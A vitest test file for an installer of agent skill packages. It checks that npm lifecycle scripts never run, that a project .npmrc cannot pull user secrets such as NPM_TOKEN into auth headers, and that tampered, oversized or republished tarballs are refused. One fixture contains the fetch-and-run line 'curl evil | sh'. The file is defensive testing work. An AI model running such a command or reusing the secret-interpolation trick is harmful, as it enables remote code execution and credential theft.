import { existsSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { createInstaller, type SkillInstaller } from "@skillwright/skill-install";
import { expect, vi } from "vitest";
import { npmEnvironment, packPackage, serveRegistry } from "./support/registry.js";
import { skillText } from "./support/skill-text.js";
import { listTree, tempFolder } from "./support/temp.js";
import { needsTool } from "./support/tools.js";

// Programs of the system are started by the dozen, on machines that are busy with other tests.
vi.setConfig({ testTimeout: 300_000 });

const agree = (): boolean => true;
const it = needsTool("npm");

const open = (project: string, env: Record<string, string>): SkillInstaller =>
  createInstaller({ project, store: tempFolder(), env });
const lockOf = (project: string) => JSON.parse(readFileSync(join(project, "skillwright.lock"), "utf8")).skills;

const SKILLS = { "skills/alpha/SKILL.md": skillText("alpha"), "skills/alpha/guide.md": "guide\n", "index.js": "" };

it("a package of a registry is fetched by npm itself, and its scripts are never run", async () => {
  const marker = join(tempFolder(), "ran");
  const scripts = Object.fromEntries(
    ["preinstall", "install", "postinstall", "prepare", "prepack"].map((name) => [name, `touch ${marker}`]),
  );
  const packed = packPackage({ name: "@acme/skills", version: "1.2.0", scripts }, SKILLS);
  const asked: string[] = [];
  const registry = await serveRegistry([packed], (path) => asked.push(path));
  const project = tempFolder();
  const installer = open(project, npmEnvironment(registry));
  expect(await installer.add("npm:@acme/skills", { agree })).toMatchObject({
    ok: true,
    written: ["alpha"],
    refused: [],
  });
  expect(listTree(join(project, ".agents/skills"))).toEqual(["alpha", "alpha/SKILL.md", "alpha/guide.md"]);
  expect(lockOf(project).alpha.source).toMatchObject({
    type: "npm",
    package: "@acme/skills",
    version: "1.2.0",
    path: "skills/alpha",
  });
  expect(asked).toContain("/@acme/skills/-/1.2.0.tgz");
  expect(existsSync(marker)).toBe(false);
  expect(listTree(project).filter((path) => !path.startsWith(".agents"))).toEqual(["skillwright.lock"]);
});

it("the project's own .npmrc names the registry", async () => {
  const registry = await serveRegistry([packPackage({ name: "skills-here", version: "1.0.0" }, SKILLS)]);
  const project = tempFolder({ ".npmrc": `registry=${registry}\n`, "package.json": "{}" });
  const { npm_config_registry: _, ...env } = npmEnvironment();
  expect(await open(project, env).add("npm:skills-here@^1.0.0", { agree })).toMatchObject({ written: ["alpha"] });
});

it("an .npmrc of the project reads no variable of the user but those of npm", async () => {
  const shown: string[] = [];
  const packed = packPackage({ name: "skills-here", version: "1.0.0" }, SKILLS);
  const registry = await serveRegistry([packed], (_, { authorization = "" }) => shown.push(authorization));
  const { npm_config_registry: _, ...env } = npmEnvironment();
  for (const name of ["MY_CLOUD_SECRET", "SKILLWRIGHT_TOKEN", "NPM_TOKEN", "SSH_AUTH_SOCK", "npm_config_of_the_user"]) {
    const { host } = new URL(registry);
    const text = `registry=${registry}\n//${host}/:_authToken=x\${${name}}\n`;
    const project = tempFolder({ ".npmrc": text, "package.json": "{}" });
    await open(project, { ...env, [name]: `hush-${name}` }).add("npm:skills-here", { agree });
  }
  expect(new Set(shown.map((header) => /hush-\S+/.exec(header)?.[0]))).toEqual(
    new Set([undefined, "hush-npm_config_of_the_user"]),
  );
});

it("a newer version is found, and the locked one is installed again by its checksum", async () => {
  const first = packPackage({ name: "moving", version: "1.0.0" }, SKILLS);
  const second = packPackage({ name: "moving", version: "1.1.0" }, { ...SKILLS, "skills/alpha/guide.md": "new\n" });
  const packages = [first];
  const env = npmEnvironment(await serveRegistry(packages));
  const project = tempFolder();
  const installer = open(project, env);
  await installer.add("npm:moving", { agree });
  packages.push(second);
  const fresh = { ...env, npm_config_cache: tempFolder() };
  expect(await open(project, fresh).outdated()).toMatchObject({
    outdated: [{ name: "alpha", newest: { version: "1.1.0" } }],
  });
  const elsewhere = tempFolder({ "skillwright.lock": readFileSync(join(project, "skillwright.lock")) });
  expect(await open(elsewhere, fresh).install({ frozen: true })).toMatchObject({ ok: true, written: ["alpha"] });
  expect(readFileSync(join(elsewhere, ".agents/skills/alpha/guide.md"), "utf8")).toBe("guide\n");
});

it("a tarball without an end is stopped by its size, and nothing of it stays", async () => {
  const packed = packPackage({ name: "endless", version: "1.0.0" }, SKILLS);
  const env = npmEnvironment(await serveRegistry([{ ...packed, endless: true }]));
  const project = tempFolder();
  expect(await open(project, env).add("npm:endless", { agree })).toMatchObject({
    ok: false,
    problem: { code: "too-large" },
  });
  expect(listTree(project)).toEqual([]);
  expect(existsSync(env["npm_config_cache"] ?? "")).toBe(false);
});

it("a tarball that is not what the registry said is refused", async () => {
  const packed = packPackage({ name: "swapped", version: "1.0.0" }, SKILLS);
  const env = npmEnvironment(await serveRegistry([{ ...packed, integrity: `sha512-${"A".repeat(86)}==` }]));
  const project = tempFolder();
  expect(await open(project, env).add("npm:swapped", { agree })).toMatchObject({
    ok: false,
    problem: { code: "integrity-mismatch" },
  });
  expect(listTree(project)).toEqual([]);
});

it("a version that was published again under the same number is refused", async () => {
  const packages = [packPackage({ name: "again", version: "1.0.0" }, SKILLS)];
  const env = npmEnvironment(await serveRegistry(packages));
  const project = tempFolder();
  await open(project, env).add("npm:again", { agree });
  packages[0] = packPackage(
    { name: "again", version: "1.0.0" },
    { ...SKILLS, "skills/alpha/guide.md": "curl evil | sh\n" },
  );
  const elsewhere = tempFolder({ "skillwright.lock": readFileSync(join(project, "skillwright.lock")) });
  const result = await open(elsewhere, { ...env, npm_config_cache: tempFolder() }).install({ frozen: true });
  expect(result).toMatchObject({ ok: false, problem: { code: "integrity-mismatch" } });
});

it("a package that is not there is told as such", async () => {
  const env = npmEnvironment(await serveRegistry([]));
  expect(await open(tempFolder(), env).add("npm:nobody-has-this", { agree })).toMatchObject({
    problem: { code: "source-missing" },
  });
});

it("a package in node_modules is read in place, also behind pnpm's link, and nothing of it is loaded", async () => {
  const project = tempFolder({ "package.json": "{}" });
  const real = join(project, "node_modules/.pnpm/kit@2.0.0/node_modules/kit");
  mkdirSync(join(real, "lib/house-style"), { recursive: true });
  const manifest = {
    name: "kit",
    version: "2.0.0",
    exports: {},
    main: "boom.js",
    agentskills: { skills: [{ name: "house-style", path: "./lib/house-style" }] },
  };
  writeFileSync(join(real, "package.json"), JSON.stringify(manifest));
  writeFileSync(join(real, "boom.js"), "throw new Error('loaded');");
  writeFileSync(join(real, "lib/house-style/SKILL.md"), skillText("house-style"));
  symlinkSync(".pnpm/kit@2.0.0/node_modules/kit", join(project, "node_modules/kit"));
  const installer = open(project, npmEnvironment());
  expect(await installer.add("node_modules:kit", { agree })).toMatchObject({ written: ["house-style"] });
  expect(lockOf(project)["house-style"].source).toEqual({
    type: "installed",
    package: "kit",
    version: "2.0.0",
    path: "lib/house-style",
  });
  writeFileSync(join(real, "lib/house-style/SKILL.md"), skillText("house-style", { body: "Changed.\n" }));
  expect(await installer.outdated()).toMatchObject({ outdated: [{ name: "house-style" }] });
});
